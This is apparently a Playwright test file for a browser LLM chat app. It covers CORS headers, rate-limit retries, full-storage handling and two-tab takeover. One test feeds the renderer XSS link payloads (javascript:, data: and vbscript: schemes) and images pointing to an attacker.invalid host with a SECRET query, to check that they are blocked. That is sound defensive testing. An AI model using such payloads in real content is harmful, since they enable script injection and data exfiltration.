import type { RequestListener } from 'node:http';
import type { Page } from '@playwright/test';
import { en } from '../../src/i18n/en.ts';
import { checkHistory } from '../../src/llm/index.ts';
import { answer, begin, call, chat, frame, hasResult, refuse, talk } from './lib/answers.ts';
import {
  connect,
  conversation,
  expectEnd,
  expectValidContext,
  openApp,
  send,
  showPane,
} from './lib/app.ts';
import { expect, test } from './lib/fixture.ts';
import { listen } from './lib/leaks.ts';
import { allowPages } from './lib/servers.ts';
import { statesOf, storedEntries } from './lib/trace.ts';

const KEY = 'sk-secret-0123456789abcdef';

async function connectTo(page: Page, origin: string): Promise<void> {
  await openApp(page);
  await connect(page, { baseURL: `${origin}/v1`, apiKey: KEY, model: 'mock' });
}

test('B01: no request asks leave for more than authorization and content-type', async ({
  page,
  startServer,
}) => {
  const asked: string[] = [];
  const done: string[] = [];
  const handler = chat((_, response) => answer(response, talk('Hello.')));
  const origin = await startServer((request, response) => {
    const wanted = request.headers['access-control-request-headers'] ?? '';
    if (request.method === 'OPTIONS') asked.push(...wanted.split(',').map((name) => name.trim()));
    else done.push(`${request.method} ${request.url}`);
    handler(request, response);
  });
  await openApp(page);
  await page.getByTestId('settings').click();
  await page.getByTestId('base-url').fill(`${origin}/v1`);
  await page.getByTestId('api-key').fill(KEY);
  await page.getByTestId('model').fill('mock');
  await page.getByTestId('test-connection').click();
  await expect(page.getByTestId('test-connection')).toBeVisible();
  await page.getByTestId('settings-save').click();
  await send(page, 'Hello?');
  await expectEnd(page, 1, 'end_turn');
  expect(done).toContain('GET /v1/models');
  expect(done).toContain('POST /v1/chat/completions');
  expect(new Set(asked)).toEqual(new Set(['authorization', 'content-type']));
});

test.describe('B12: a limit', () => {
  /** Refuses every request and notes when it came. */
  const limiter = (times: number[], wrap: (handler: RequestListener) => RequestListener) =>
    wrap((request, response) => {
      if (request.method === 'POST') times.push(Date.now());
      refuse(response, 429, { error: { message: 'Too fast' } }, { 'retry-after': '2' });
    });

  test('whose Retry-After cannot be read is tried again twice, at our own pace', async ({
    page,
    startServer,
  }) => {
    const times: number[] = [];
    await connectTo(page, await startServer(limiter(times, allowPages)));
    await send(page, 'Hello?');
    await expectEnd(page, 1, 'error');
    expect(times).toHaveLength(3);
    const [first = 0, second = 0, third = 0] = times;
    expect(second - first).toBeGreaterThanOrEqual(450);
    expect(third - second).toBeGreaterThanOrEqual(950);
    await expect(conversation(page)).toContainText('(429): Too fast');
    await expect(conversation(page)).toContainText('rate limit');
    await expect(conversation(page)).not.toContainText('refused the key');
  });

  test('that no page may read is a matter of the network or CORS, not of the key', async ({
    page,
    startServer,
  }) => {
    const times: number[] = [];
    const noCors =
      (handler: RequestListener): RequestListener =>
      (request, response) => {
        // The preflight is let through, the answer is not: so do gateways.
        if (request.method === 'OPTIONS') allowPages(handler)(request, response);
        else handler(request, response);
      };
    await connectTo(page, await startServer(limiter(times, noCors)));
    await send(page, 'Hello?');
    await expectEnd(page, 1, 'error');
    expect(times).toHaveLength(3);
    await expect(conversation(page)).toContainText('(CORS)');
    await expect(conversation(page)).toContainText('offline');
    await expect(conversation(page)).not.toContainText(/\bkey\b/);
  });
});

test.describe('what a model writes', () => {
  const LINKS =
    '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java&#10;script:alert(1)) ' +
    '[d](javascript&colon;alert(1)) [e](\u0001javascript:alert(1)) ' +
    '[f](data:text/html,<script>alert(1)</script>) [g](vbscript:x) [ok](https://example.com)';
  const IMAGES =
    '![p](https://attacker.invalid/p.png?d=SECRET) <img src="https://attacker.invalid/q.png"> ' +
    '[![x](https://attacker.invalid/r.png)](https://example.com) ![d](//attacker.invalid/s.png)';

  test('B07, B08: makes no link that runs and asks nobody for a picture', async ({
    page,
    context,
    startServer,
  }) => {
    const { asked } = await listen(context);
    const file = JSON.stringify({ path: '/evil.md', content: `${LINKS}\n\n${IMAGES}` });
    const origin = await startServer(
      chat((request, response) => {
        const frames = talk(`${LINKS}\n\n${IMAGES}`);
        answer(response, hasResult(request) ? frames : call('write', [file]));
      }),
    );
    await connectTo(page, origin);
    await send(page, 'Show me something.');
    await expectEnd(page, 1, 'end_turn');
    await expect(conversation(page)).toContainText(en['markdown.imageBlocked']);
    const ok = conversation(page).getByRole('link', { name: 'ok' });
    await expect(ok).toHaveAttribute('href', /^https:\/\/example\.com/);
    await expect(ok).toHaveAttribute('rel', /noopener/);
    for (const pane of ['context', 'events', 'wire', 'files'] as const) {
      await showPane(page, pane);
      await expect(page.getByTestId(pane)).toBeVisible();
      if (pane === 'files') await page.locator('[data-path="/evil.md"]').click();
      const schemes = await page.evaluate(() =>
        Array.from(document.querySelectorAll('a'), ({ protocol }) => protocol),
      );
      expect(schemes.length).toBeGreaterThan(0);
      expect(schemes.filter((scheme) => !/^https?:$/.test(scheme))).toEqual([]);
      await expect(page.locator('img')).toHaveCount(0);
    }
    expect(asked.filter((url) => url.includes('attacker.invalid'))).toEqual([]);
  });
});

/** A model that writes one file in each turn and says what came of it. */
function writer(): RequestListener {
  const file = '{"path":"/new.txt","content":"A text that nobody has stored before."}';
  return chat((asked, response) => {
    const { content } = asked.messages.at(-1) ?? {};
    answer(
      response,
      hasResult(asked) ? talk(`It said: ${String(content)}`) : call('write', [file]),
    );
  });
}

test.describe('B10: a disk that is full', () => {
  test('is told in the page, and what was stored before stays readable', async ({
    page,
    startServer,
    watched,
  }) => {
    watched.allow(/^shown: .*(could not be saved|no more room)/);
    await connectTo(page, await startServer(writer()));
    await send(page, 'First.');
    await expectEnd(page, 1, 'end_turn');
    await fill(page);
    await page.getByTestId('settings').click();
    await page.getByTestId('model').fill('other');
    await page.getByTestId('settings-save').click();
    await expect(page.getByRole('alert')).toContainText('The settings could not be saved');
    await page.reload();
    await expectEnd(page, 1, 'end_turn');
    await expectValidContext(page);
  });

  test('stops a run with a warning, fails the write, and loses nothing that is shown', async ({
    page,
    startServer,
    watched,
  }) => {
    watched.allow(/^shown: .*no more room/);
    let hasWritten = false;
    const write = writer();
    const origin = await startServer((request, response) => {
      if (hasWritten) return write(request, response);
      return chat((_, first) => answer(first, talk('Stored in time.')))(request, response);
    });
    await connectTo(page, origin);
    await send(page, 'Before.');
    await expectEnd(page, 1, 'end_turn');
    hasWritten = true;
    await fill(page);

    await send(page, 'Now write.');
    await expect(page.getByRole('alert')).toHaveCount(1);
    await expect(page.getByRole('alert')).toContainText('no more room');
    await expect(page.getByTestId('run')).toHaveAccessibleName(en['controls.run']);
    await page.getByTestId('run').click();
    await expectEnd(page, 2, 'end_turn');
    await expect(page.getByTestId('call')).toHaveAttribute('data-state', 'error');
    await expect(conversation(page)).toContainText('It said: error');
    await expect(page.getByRole('alert')).toHaveCount(1);
    await send(page, 'And again.');
    await expectEnd(page, 3, 'end_turn');
    await expectValidContext(page);

    await page.reload();
    await expectEnd(page, 1, 'end_turn');
    await expect(conversation(page)).toContainText('Stored in time.');
  });
});

/** From now on every write to IndexedDB fails, in the page and in its workers. */
async function fill(page: Page): Promise<void> {
  const full = () => {
    IDBObjectStore.prototype.put = () => {
      throw new DOMException('There is no more room.', 'QuotaExceededError');
    };
  };
  await page.evaluate(full);
  for (const worker of page.workers()) await worker.evaluate(full);
}

test('B18: errors that cannot be cloned reach the page as plain data', async ({
  page,
  context,
  startServer,
  watched,
}) => {
  watched.allow(/^shown: .*with things attached/);
  const { posted } = await listen(context);
  await connectTo(page, await startServer(writer()));
  for (const worker of page.workers()) {
    await worker.evaluate(() => {
      IDBObjectStore.prototype.put = () => {
        const attached = {
          run: () => 1,
          response: new Response('x'),
          headers: new Headers({ authorization: 'x' }),
          signal: new AbortController().signal,
        };
        throw Object.assign(new TypeError('An error with things attached'), attached);
      };
    });
  }
  await send(page, 'Write.');
  await expect(page.getByRole('alert')).toContainText('with things attached');
  await page.getByTestId('run').click();
  await expectEnd(page, 1, 'end_turn');
  await expect(page.getByTestId('call')).toHaveAttribute('data-state', 'error');
  const failed = posted.map((text) => JSON.parse(text)).filter(({ type }) => type === 'failed');
  expect(failed).toEqual([
    {
      type: 'failed',
      during: 'storage',
      error: { name: 'TypeError', message: 'An error with things attached' },
    },
  ]);
});

test.describe('B15: two tabs with one session', () => {
  test('one writes and the other looks on, until it takes over; nothing is lost', async ({
    page,
    context,
    startServer,
  }) => {
    await context.addInitScript(() => {
      const NativeWorker = Worker;
      window.Worker = class extends NativeWorker {
        constructor(url: string | URL, options?: WorkerOptions) {
          super(url, options);
          Object.assign(window, { takeOver: () => this.postMessage({ type: 'takeOver' }) });
        }
      };
    });
    const origin = await startServer(
      chat(({ messages }, response) => {
        const text = JSON.stringify(messages.at(-1)?.content);
        if (!text.includes('Alpha')) return answer(response, talk('All of it.'));
        begin(response, [frame({ content: 'Half of it' })]);
        // The first answer never comes to its end.
        const more = setInterval(() => begin(response, [frame({ content: ' and more' })]), 15);
        return void response.on('close', () => clearInterval(more));
      }),
    );
    await openApp(page);
    await connect(page, { baseURL: `${origin}/v1`, apiKey: KEY, model: 'mock' }, true);
    await send(page, 'Alpha');
    await expect(conversation(page)).toContainText('Half of it');

    const second = await context.newPage();
    await openApp(second);
    await expect(conversation(second)).toContainText('Alpha');
    await expect(statusOf(second)).toBeVisible();
    await second.getByTestId('prompt').fill('Beta');
    await expect(second.getByTestId('send')).toBeDisabled();

    await second.evaluate(() => (window as unknown as { takeOver(): void }).takeOver());
    await expect(statusOf(second)).toBeHidden();
    await expect(statusOf(page)).toBeVisible();
    await send(second, 'Beta');
    await expect(conversation(second)).toContainText('All of it.');
    await expect(second.getByTestId('abort')).toBeDisabled();
    await page.getByTestId('prompt').fill('Gamma');
    await expect(page.getByTestId('send')).toBeDisabled();

    for (const tab of [page, second]) {
      await tab.reload();
      for (const text of ['Alpha', 'Half of it', 'Beta', 'All of it.']) {
        await expect(conversation(tab)).toContainText(text);
      }
      await expectValidContext(tab);
    }
    const entries = await storedEntries(second);
    expect(entries.map(({ n }) => n)).toEqual(entries.map((_, index) => index));
    const last = [...statesOf(entries)].at(-1);
    expect(checkHistory(last?.state.messages ?? [])).toEqual([]);
  });
});

function statusOf(page: Page) {
  return page.getByRole('status').filter({ hasText: en['shell.readOnly'] });
}
